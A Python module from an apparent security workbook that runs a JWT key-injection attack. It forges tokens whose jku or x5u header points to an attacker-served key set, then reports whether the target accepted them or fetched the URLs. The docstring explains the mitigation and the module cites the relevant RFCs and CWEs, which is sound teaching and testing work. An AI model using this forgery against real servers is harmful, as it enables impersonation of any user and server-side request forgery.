"""A header can say where the key is: `jku` is the URL of a key set, `x5u` that of a
certificate. The attacker serves a key set of their own and signs a token for any user
with its key. A server that fetches it believes the forgery, and even one that refuses
the token afterwards has sent a request to wherever the attacker wanted. What stops it
is a fixed place for keys, chosen by the server and not by the token."""

from workbook.attacks.attack import ClassicAttack, paragraph
from workbook.attacks.classics import forger
from workbook.attacks.classics.forging import original, show_each
from workbook.attacks.classics.key_server import serving_keys
from workbook.attacks.target import Target


def attempt(target: Target) -> tuple[bool, str]:
    token = original(target)
    with serving_keys() as keys:
        shared = keys.url_of("shared.json", forger.hmac_jwk())
        public = keys.url_of("public.json", forger.rsa_jwk())
        through, evidence = show_each(
            target,
            {
                "the URL of its HS256 key in jku": forger.sign_with_hmac(
                    token, jku=shared
                ),
                "the URL of its RS256 key in jku": forger.sign_with_rsa(
                    token, jku=public
                ),
                "a URL in x5u": forger.sign_with_rsa(token, x5u=public),
            },
            control=forger.sign_with_hmac(token),
        )
        if not keys.asked:
            return through, f"{evidence} The server fetched none of these URLs."
        # A request that an attacker can make a server send is an attack by itself.
        return True, f"{evidence} The server fetched {', '.join(keys.asked)}."


ATTACK = ClassicAttack(
    name="serve_a_key_set",
    title="Serve a key set (jku)",
    attacker="anyone who can serve a file",
    has="network access, a username, and a key set of their own",
    step="step04_jwt",
    mistake="the key is fetched from the token's jku",
    shows=(
        "A token with the URL of its HS256 key in jku: 200 with "
        "johndoe@example.com. The server fetched shared.json."
    ),
    sources="RFC 7515, section 4.1.2; RFC 8725, section 3.10; CWE-347, CWE-918.",
    description=paragraph(__doc__),
    attempt=attempt,
)
